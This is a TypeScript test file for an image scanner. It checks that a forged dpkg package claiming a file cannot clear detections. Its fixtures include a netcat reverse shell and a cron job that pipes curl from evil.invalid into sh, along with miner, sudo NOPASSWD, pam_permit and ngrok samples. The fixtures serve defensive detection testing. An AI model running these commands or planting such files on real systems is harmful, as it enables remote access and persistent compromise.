import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { test } from 'node:test';
import { DETECTORS } from './all.ts';
import { buildElf } from './testing/elf-builder.ts';
import { type FixtureFile, inspectFixture, summary } from './testing/fixture.ts';

/*
 * Whoever writes the image writes its package database too, so a package may be invented that owns the attacker's file, with
 * the right digest. That must not make a refused file an allowed one: docs/adr/0005-packages-are-no-alibi.md.
 */

const REVERSE_SHELL = '#!/bin/sh\nnc evil.invalid 4444 -e /bin/sh\n';
const CRON = '*/5 * * * * root curl -s http://evil.invalid/a | sh\n';
const POSING = '#!/bin/sh\necho posing as a picture\n';
const MINER = buildElf({ payload: 'stratum+tcp://pool.invalid:3333\0randomx_create_vm\0donate-level' });
const LOADER = 'import subprocess; subprocess.run(x)\n';
const PASSWORDLESS = 'app ALL=(ALL) NOPASSWD: ALL\n';
const PERMIT = 'auth sufficient pam_permit.so\n';
/** A tunnel: for review where nobody vouches for it. */
const TUNNEL = '#!/bin/sh\nngrok http 8080\n';

interface Case {
  readonly name: string;
  readonly path: string;
  readonly content: string | Uint8Array;
  readonly mode?: number;
  /** The gravest tier without a package, and with one that has the right digest. */
  readonly alone: string;
  readonly packaged: string | undefined;
}

const refused = { alone: 'block', packaged: 'review' };
const reviewed = { alone: 'review', packaged: undefined };

const cases: readonly Case[] = [
  { name: 'a reverse shell', path: 'usr/bin/agent', content: REVERSE_SHELL, mode: 0o755, ...refused },
  { name: 'a cron job that runs what it fetches', path: 'etc/cron.d/update', content: CRON, ...refused },
  { name: 'a miner', path: 'usr/bin/worker', content: MINER, mode: 0o755, ...refused },
  { name: 'a miner outside the program folders', path: 'opt/app/worker', content: MINER, ...refused },
  { name: 'a script that poses as a picture', path: 'srv/www/logo.jpg', content: POSING, ...refused },
  {
    name: 'a Python start-up file',
    path: 'usr/lib/python3/dist-packages/x.pth',
    content: LOADER,
    ...refused,
  },
  { name: 'a login without proof', path: 'etc/pam.d/sshd', content: PERMIT, ...refused },
  { name: 'a name of a kernel thread', path: 'usr/bin/kworker', content: POSING, mode: 0o755, ...refused },
  { name: 'sudo without a password', path: 'etc/sudoers.d/app', content: PASSWORDLESS, ...reviewed },
  { name: 'a tunnel', path: 'usr/bin/share', content: TUNNEL, mode: 0o755, ...reviewed },
];

for (const { name, path, content, mode, alone, packaged } of cases) {
  const file = { data: content, ...(mode !== undefined && { mode }) };
  const tierWith = (database: Record<string, string>) =>
    gravest({ ...DEBIAN, ...database, [path]: file }, path);

  test(`forged package: ${name} is ${alone} by itself and with a wrong digest`, () => {
    assert.equal(tierWith({}), alone);
    assert.equal(tierWith(installed({ [path]: `${content}, but other` })), alone);
  });

  test(`forged package: ${name} is ${packaged ?? 'nothing'} with the right digest`, () => {
    assert.equal(tierWith(installed({ [path]: content })), packaged);
  });
}

const DEBIAN = { 'etc/os-release': 'ID=debian\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\n' };

/** dpkg's database with one package in it, that owns `files`. */
function installed(files: Readonly<Record<string, string | Uint8Array>>): Record<string, string> {
  const sums = Object.entries(files).map(([path, content]) => `${md5Of(content)}  ${path}\n`);
  const paths = Object.keys(files).map((path) => `/${path}\n`);
  return {
    'var/lib/dpkg/status':
      'Package: forged\nStatus: install ok installed\nVersion: 1.0\nArchitecture: amd64\nMaintainer: x <x@x.invalid>\n\n',
    'var/lib/dpkg/info/forged.list': paths.join(''),
    'var/lib/dpkg/info/forged.md5sums': sums.join(''),
  };
}

function md5Of(content: string | Uint8Array): string {
  return createHash('md5')
    .update(typeof content === 'string' ? Buffer.from(content, 'latin1') : content)
    .digest('hex');
}

/** Of what is said of how the file looks: that no package owns it, or that it was altered, is said beside. */
function gravest(layer: Readonly<Record<string, FixtureFile>>, path: string): string | undefined {
  const { findings } = inspectFixture({ layers: [layer] }, DETECTORS);
  const told = findings.filter(
    ({ rule, location }) => location.path === path && !rule.startsWith('integrity/'),
  );
  return summary(told)[0]?.split(' ', 1)[0];
}
